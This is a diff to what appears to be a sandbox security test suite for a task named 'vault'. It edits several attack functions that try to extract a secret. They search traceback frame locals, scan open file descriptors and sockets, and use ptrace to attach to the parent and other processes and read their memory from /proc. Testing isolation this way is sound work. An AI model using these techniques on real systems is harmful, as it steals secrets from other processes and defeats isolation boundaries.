@@ -57,7 +57,7 @@ def solve(port, path, pid):
     except Exception as e:
         f = e.__traceback__.tb_frame
         while f:
-            found = seek(repr(f.f_globals)[:1000000])
+            found = seek(repr(f.f_code.co_consts) + repr(f.f_locals)[:1000000])
             if found: return found
             f = f.f_back
 """,
@@ -171,7 +171,6 @@ def seek(data):
 def solve(port, path, pid):
     import os, fcntl
     for fd in range(0, 256):
-        if fd == 200: continue
         try:
             flags = fcntl.fcntl(fd, fcntl.F_GETFL)
             fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
@@ -279,7 +278,7 @@ def seek(data):
 def solve(port, path, pid):
     import ctypes, os
     libc = ctypes.CDLL(None, use_errno=True)
-    for p in range(1, 40):
+    for p in (os.getppid(), *range(1, 40)):
         if p != os.getpid() and libc.ptrace(16, p, 0, 0) == 0:
             with open('/proc/%d/mem' % p, 'rb', 0) as mem, open('/proc/%d/maps' % p) as maps:
                 for line in maps:
@@ -321,10 +320,14 @@ def seek(data):
     found = PAT.search(data)
     return found.group().decode() if found else None
 def solve(port, path, pid):
-    import os, select
-    if select.select([200], [], [], 0.2)[0]:
-        return seek(os.read(200, 1 << 20))
+    import os, select, stat
+    for fd in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode) and select.select([fd], [], [], 0.2)[0]:
+                return seek(os.read(fd, 1 << 20))
+        except OSError: pass
 """,
         task="vault",
+        ours=True,
     ),
 )
